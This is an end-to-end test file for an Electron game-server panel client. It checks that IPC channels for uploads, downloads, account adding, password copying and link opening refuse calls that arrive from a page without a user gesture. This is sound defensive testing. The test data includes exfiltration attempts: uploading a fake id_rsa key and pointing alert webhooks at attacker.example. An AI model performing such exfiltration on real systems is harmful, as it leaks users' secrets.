/**
 * The gesture contract (src/main/ipc/gesture-contract.ts, issue 11): every channel that touches
 * this computer or sends what is on it elsewhere is called well-formed, from the page, without
 * the gesture main must see first, and nothing may happen: no local file read (nothing reaches a
 * panel) or written, no request to any panel, no account added, no link opened. Then each gesture
 * is given, as a person gives it, and the same call works: the guards are not simply broken.
 *
 * Runs the real built app on the Electron double against two simulated panels: the person's own,
 * and one a hostile page would like the app to talk to.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startSimPanel, type SimPanel } from '../../src/sim';
import { GESTURE_CONTRACT, guardedChannels, type GuardedChannel } from '../../src/main/ipc/gesture-contract';
import { INVOKE_CHANNELS } from '../../src/shared/ipc-contract';
import { FEATURE_TERMS_URLS } from '../../src/shared/feature-terms';
import type { AccountView, ServerRef, ServerView } from '../../src/shared/types';
import { addAccount, hasSecretService, invoke, startAppOnSim, type AppOnSim } from '../e2e/helpers/app-on-sim';
import { openServer } from '../e2e/helpers/window-kit';
import { fileRow } from '../e2e/helpers/files-kit';
import { filesUnder } from '../helpers/files-under';
import { clientFor } from '../helpers/sim';
import { simVersionDefaults } from '../helpers/sim-versions';

const SECRET = 'PRIVATE KEY MATERIAL 7f3a';

/** Every file under `dir`, relative, without the app's own settings and logs. */
function appFilesUnder(dir: string): string[] {
  return filesUnder(dir)
    .map((path) => relative(dir, path))
    .filter((p) => !p.startsWith('config/'))
    .sort();
}

describe.skipIf(!hasSecretService)('the gesture contract, called from the page without the gesture', () => {
  let env: AppOnSim;
  let other: SimPanel;
  let scratch: string;
  let secretPath: string;
  let server: ServerRef;
  let homeBefore: string[];
  let shellBefore: number;

  beforeAll(async () => {
    scratch = mkdtempSync(join(tmpdir(), 'pterotray-gestures-'));
    secretPath = join(scratch, 'id_rsa');
    writeFileSync(secretPath, SECRET);
    env = await startAppOnSim({ until: 'dashboard', sim: { servers: 2 } });
    other = await startSimPanel({ servers: 1, seed: 9, ...simVersionDefaults() });
    const first = env.sim.control.servers()[0]!;
    server = { accountId: env.account.id, identifier: first.identifier };
    homeBefore = appFilesUnder(env.app.home);
    // Getting to the dashboard took clicks, and a press counts for a few seconds: use it up, then
    // press once more for a link that marks the moment (shell calls are recorded in order, so
    // once it shows, anything the first call opened shows too).
    await invoke(env.page, 'serversOpenInPanel', server);
    await env.page.mouse.click(2, 2);
    await invoke(env.page, 'featuresOpenTerms', { feature: 'eula' });
    await env.app.waitFor(() => env.app.shellCalls().some((c) => c.target === FEATURE_TERMS_URLS.eula), { timeoutMs: 5_000, message: 'the marker link' });
    shellBefore = env.app.shellCalls().length;
    env.sim.control.resetCounts();
  });

  afterAll(async () => {
    await env?.close();
    await other?.close();
    if (scratch) rmSync(scratch, { recursive: true, force: true });
  });

  const uploads = (): number => env.sim.control.requestCount(/upload/);
  /** Dialogs main opened since `mark` (a count of dialog calls). */
  const dialogsSince = (mark: number) => env.app.dialog.calls().slice(mark);
  const downloads = (): number => env.sim.control.requestCount(/download/);

  // One case per guarded channel: the compiler refuses this table when the contract gains one.
  const WITHOUT_GESTURE: Record<GuardedChannel, () => Promise<void>> = {
    // ── backups (issue 13) ──
    'backups:download': async () => {
      const mark = env.app.dialog.calls().length;
      const client = clientFor(env.sim);
      const made = await client.createBackup(server.identifier, {}).finally(() => client.dispose());
      env.sim.control.resetCounts();
      const uuid = made.uuid;
      const reply = await invoke(env.page, 'backupsDownload', { server, uuid });
      expect(reply).toEqual({ ok: true, value: null });
      expect(dialogsSince(mark).map((c) => [c.kind, c.scripted])).toEqual([['showSaveDialog', false]]);
      expect(downloads()).toBe(0);
    },
    'files:download': async () => {
      const mark = env.app.dialog.calls().length;
      const reply = await invoke(env.page, 'filesDownload', { server, path: '/server.properties' });
      // Main's save dialog opened and nobody answered it (the double answers Cancel, as Escape would).
      expect(reply).toEqual({ ok: true, value: null });
      expect(dialogsSince(mark).map((c) => [c.kind, c.scripted])).toEqual([['showSaveDialog', false]]);
      expect(downloads()).toBe(0);
    },
    'files:pick-and-upload': async () => {
      const mark = env.app.dialog.calls().length;
      const reply = await invoke(env.page, 'filesPickAndUpload', { server, directory: '/' });
      expect(reply).toEqual({ ok: true, value: null });
      expect(dialogsSince(mark).map((c) => [c.kind, c.scripted])).toEqual([['showOpenDialog', false]]);
      expect(uploads()).toBe(0);
    },
    'files:upload': async () => {
      const mark = env.app.dialog.calls().length;
      const attempts = await env.page.evaluate(
        async ([ref, path]) => {
          const api = (globalThis as unknown as { api: Record<string, (x: unknown) => Promise<{ ok: boolean; error?: { code: string; message: string } }>> })
            .api;
          return [
            // The old shape: a path named by the page.
            await api.filesUpload!({ server: ref, directory: '/', localPaths: [path] }),
            // Paths in place of Files.
            await api.filesUpload!({ server: ref, directory: '/', files: [path] }),
            // A File built by script: it has no path on disk.
            await api.filesUpload!({ server: ref, directory: '/', files: [new File(['x'], 'id_rsa')] }),
            await api.filesUpload!({ server: ref, directory: '/', files: [] }),
          ];
        },
        [server, secretPath] as const,
      );
      for (const reply of attempts) expect(reply).toMatchObject({ ok: false, error: { code: 'invalid-argument' } });
      // Refused in the preload: main never heard of it, asked nothing, read nothing.
      expect(env.app.ipcLog().filter((e) => e.kind === 'invoke' && e.channel === 'files:upload')).toEqual([]);
      expect(dialogsSince(mark)).toEqual([]);
      expect(uploads()).toBe(0);
    },
    'accounts:add': async () => {
      const mark = env.app.dialog.calls().length;
      const before = (await invoke<AccountView[]>(env.page, 'accountsList')).ok;
      const reply = await invoke(env.page, 'accountsAdd', { url: other.url, name: 'Totally your panel', apiKey: other.apiKey });
      expect(reply).toEqual({ ok: true, value: null });
      expect(dialogsSince(mark).map((c) => [c.kind, c.scripted, c.options.message])).toEqual([
        ['showMessageBox', false, 'Add Totally your panel to Pterotray?'],
      ]);
      expect(other.control.requestCount()).toBe(0);
      const accounts = await invoke<AccountView[]>(env.page, 'accountsList');
      expect(before).toBe(true);
      expect(accounts.ok && accounts.value.map((a) => a.url)).toEqual([env.sim.url]);
    },
    'servers:open-in-panel': async () => {
      expect(await invoke(env.page, 'serversOpenInPanel', server)).toEqual({ ok: true, value: undefined });
    },
    'features:open-terms': async () => {
      expect(await invoke(env.page, 'featuresOpenTerms', { feature: 'eula' })).toEqual({ ok: true, value: undefined });
    },
    // ── schedules (issue 13) ──
    'schedules:export': async () => {
      const listed = await invoke<{ id: number }[]>(env.page, 'schedulesList', { server });
      const scheduleId = listed.ok ? listed.value[0]!.id : 0;
      const mark = env.app.dialog.calls().length;
      expect(await invoke(env.page, 'schedulesExport', { server, scheduleId })).toEqual({ ok: true, value: null });
      expect(dialogsSince(mark).map((c) => [c.kind, c.scripted])).toEqual([['showSaveDialog', false]]);
    },
    'schedules:import': async () => {
      const mark = env.app.dialog.calls().length;
      expect(await invoke(env.page, 'schedulesImport', { server })).toEqual({ ok: true, value: null });
      expect(dialogsSince(mark).map((c) => [c.kind, c.scripted])).toEqual([['showOpenDialog', false]]);
      expect(env.sim.control.requestLog().filter((e) => e.method === 'POST' && e.path.includes('/schedules'))).toEqual([]);
    },
    // A database password: refused before main asks the panel for it, nothing on the clipboard.
    'databases:reveal': async () => {
      const reply = await invoke(env.page, 'databasesReveal', { server, id: 'abc' });
      expect(reply).toMatchObject({ ok: false, error: { code: 'cancelled' } });
      expect(env.sim.control.requestCount(/databases/)).toBe(0);
    },
    'databases:copy-url': async () => {
      const writes = env.app.clipboard().writes.length;
      for (const kind of ['mysql', 'jdbc'] as const) {
        expect(await invoke(env.page, 'databasesCopyUrl', { server, id: 'abc', kind })).toMatchObject({ ok: false, error: { code: 'cancelled' } });
      }
      expect(env.sim.control.requestCount(/databases/)).toBe(0);
      expect(env.app.clipboard().writes.length).toBe(writes);
    },
    // ── console (issue 15) ──
    'console:copy': async () => {
      const writes = env.app.clipboard().writes.length;
      expect(await invoke(env.page, 'consoleCopy', { text: 'copied by a script' })).toMatchObject({ ok: false, error: { code: 'cancelled' } });
      expect(env.app.clipboard().writes.length).toBe(writes);
    },
    // ── history (issue 14) ──
    'history:export-csv': async () => {
      const mark = env.app.dialog.calls().length;
      expect(await invoke(env.page, 'historyExportCsv', { server, range: '24h' })).toEqual({ ok: true, value: null });
      expect(dialogsSince(mark).map((c) => [c.kind, c.scripted])).toEqual([['showSaveDialog', false]]);
    },
    'server-settings:open-sftp': async () => {
      expect(await invoke(env.page, 'serverSettingsOpenSftp', server)).toEqual({ ok: true, value: undefined });
    },
    // ── alerts (issue 14) ── a page must not route the servers' incidents to its own address.
    'alerts:save': async () => {
      const mark = env.app.dialog.calls().length;
      const config = {
        kind: 'webhook',
        name: 'Totally your alerts',
        isEnabled: true,
        rules: { accounts: null, servers: null, kinds: null, minSeverity: 'info' },
        quietHours: null,
        ntfy: null,
        webhook: { isSigned: false },
      };
      const reply = await invoke(env.page, 'alertsSave', { config, secret: { url: 'https://attacker.example/collect' } });
      expect(reply).toEqual({ ok: true, value: null });
      expect(dialogsSince(mark).map((c) => [c.kind, c.scripted, c.options.message])).toEqual([['showMessageBox', false, 'Send alerts to attacker.example?']]);
      expect(await invoke(env.page, 'alertsList')).toEqual({ ok: true, value: [] });
    },
  };

  it('lists every channel of the contract, and a case for each guarded one', () => {
    expect(Object.keys(GESTURE_CONTRACT).sort()).toEqual([...INVOKE_CHANNELS].sort());
    expect(Object.keys(WITHOUT_GESTURE).sort()).toEqual(guardedChannels().sort());
    for (const gesture of Object.values(GESTURE_CONTRACT)) expect(gesture.note.length).toBeGreaterThan(20);
  });

  it.each(guardedChannels())('%s does nothing without its gesture', async (channel) => {
    await WITHOUT_GESTURE[channel]();
  });

  it('wrote no file anywhere in the app’s home and opened no link', async () => {
    expect(appFilesUnder(env.app.home)).toEqual(homeBefore);
    // A press, then the same call: the one link that opens proves the ones before did not.
    await env.page.mouse.click(2, 2);
    expect((await invoke(env.page, 'serversOpenInPanel', server)).ok).toBe(true);
    await env.app.waitFor(() => env.app.shellCalls().length > shellBefore, { timeoutMs: 5_000, message: 'the pressed link opened' });
    expect(env.app.shellCalls().slice(shellBefore), JSON.stringify(env.app.shellCalls())).toEqual([
      { method: 'openExternal', target: `${env.sim.url}/server/${server.identifier}` },
    ]);
    // One press opens one page.
    expect((await invoke(env.page, 'serversOpenInPanel', server)).ok).toBe(true);
    await env.page.mouse.click(2, 2);
    expect((await invoke(env.page, 'featuresOpenTerms', { feature: 'eula' })).ok).toBe(true);
    await env.app.waitFor(() => env.app.shellCalls().length > shellBefore + 1, { timeoutMs: 5_000, message: 'the terms opened' });
    expect(
      env.app
        .shellCalls()
        .slice(shellBefore)
        .map((c) => c.target),
    ).toEqual([`${env.sim.url}/server/${server.identifier}`, FEATURE_TERMS_URLS.eula]);
  });

  it('shows or copies a database password after one press each, and not again without another', async () => {
    const listed = await invoke<{ databases: Array<{ id: string }> }>(env.page, 'databasesList', server);
    if (!listed.ok || !listed.value.databases[0]) throw new Error('no database on the first server');
    const id = listed.value.databases[0].id;
    await env.page.mouse.click(2, 2);
    const shown = await invoke<{ password: string }>(env.page, 'databasesReveal', { server, id });
    expect(shown.ok && shown.value.password.length).toBeGreaterThan(0);
    expect(await invoke(env.page, 'databasesReveal', { server, id })).toMatchObject({ ok: false, error: { code: 'cancelled' } });
    await env.page.mouse.click(2, 2);
    expect(await invoke(env.page, 'databasesCopyUrl', { server, id, kind: 'mysql' })).toEqual({ ok: true, value: { copied: 'mysql' } });
    expect(env.app.clipboard().text).toContain(shown.ok ? encodeURIComponent(shown.value.password) : 'never');
    expect(await invoke(env.page, 'databasesCopyUrl', { server, id, kind: 'jdbc' })).toMatchObject({ ok: false, error: { code: 'cancelled' } });
  });

  it('hands the server’s own sftp:// address to the system after a press, once', async () => {
    const mark = env.app.shellCalls().length;
    const list = await invoke<ServerView[]>(env.page, 'serversList');
    const sftp = list.ok ? list.value.find((v) => v.identifier === server.identifier)?.sftp : null;
    expect(sftp).toBeTruthy();
    await env.page.mouse.click(2, 2);
    expect((await invoke(env.page, 'serverSettingsOpenSftp', server)).ok).toBe(true);
    expect((await invoke(env.page, 'serverSettingsOpenSftp', server)).ok).toBe(true);
    await env.app.waitFor(() => env.app.shellCalls().length > mark, { timeoutMs: 5_000, message: 'the SFTP client launched' });
    expect(env.app.shellCalls().slice(mark)).toEqual([
      { method: 'openExternal', target: `sftp://${encodeURIComponent(sftp?.username ?? '')}@${sftp?.host ?? ''}:${sftp?.port ?? 0}` },
    ]);
  });

  it('adds the other panel once the person says Add in main’s question', async () => {
    const added = await addAccount(env.app, env.page, { url: other.url, name: 'Second panel', apiKey: other.apiKey });
    expect(added.ok).toBe(true);
    expect(other.control.requestCount(/account/)).toBeGreaterThan(0);
    if (added.ok) expect((await invoke(env.page, 'accountsRemove', { accountId: added.value.id })).ok).toBe(true);
  });

  it('uploads a file dropped from the computer after main’s question, and nothing when declined', async () => {
    await openServer(env.page, env.sim.control.servers()[0]!.name, 'Files');
    await fileRow(env.page, 'server.properties').waitFor({ timeout: 15_000 });
    const local = join(scratch, 'dropped.txt');
    writeFileSync(local, 'dropped from the desktop\n');
    // A drop from a file manager, as Chromium gives it: Files with a path on disk. The double
    // learns the path from a file input, then the test drops those same Files on the list.
    await env.page.evaluate(`(() => {
      const input = document.createElement('input');
      input.type = 'file';
      input.id = 'os-drop';
      input.style.display = 'none';
      document.body.appendChild(input);
    })()`);
    await env.app.setInputFiles('#os-drop', [local]);
    const drop = async (): Promise<void> => {
      const dataTransfer = await env.page.evaluateHandle(`(() => {
        const transfer = new DataTransfer();
        for (const file of document.getElementById('os-drop').files) transfer.items.add(file);
        return transfer;
      })()`);
      await env.page.dispatchEvent('[aria-label="Drop files to upload them here"]', 'drop', { dataTransfer });
    };
    const files = env.sim.control.files(server.identifier);

    await env.app.dialog.answerNext('showMessageBox', { response: 1 });
    const asked = env.app.dialog.calls().length;
    await drop();
    await env.app.waitFor(() => env.app.dialog.calls().length > asked, { timeoutMs: 5_000, message: 'main asked' });
    const question = env.app.dialog.calls().at(-1)!;
    expect(question.options).toMatchObject({ message: `Upload dropped.txt to ${env.sim.control.servers()[0]!.name}?`, buttons: ['Upload', 'Cancel'] });
    expect(uploads()).toBe(0);
    expect(files.exists('/dropped.txt')).toBe(false);

    await env.app.dialog.answerNext('showMessageBox', { response: 0 });
    await drop();
    await env.page.getByRole('region', { name: 'Transfers' }).getByText('Done').waitFor({ timeout: 20_000 });
    expect(files.readText('/dropped.txt')).toBe('dropped from the desktop\n');
    expect(uploads()).toBeGreaterThan(0);
  });
});
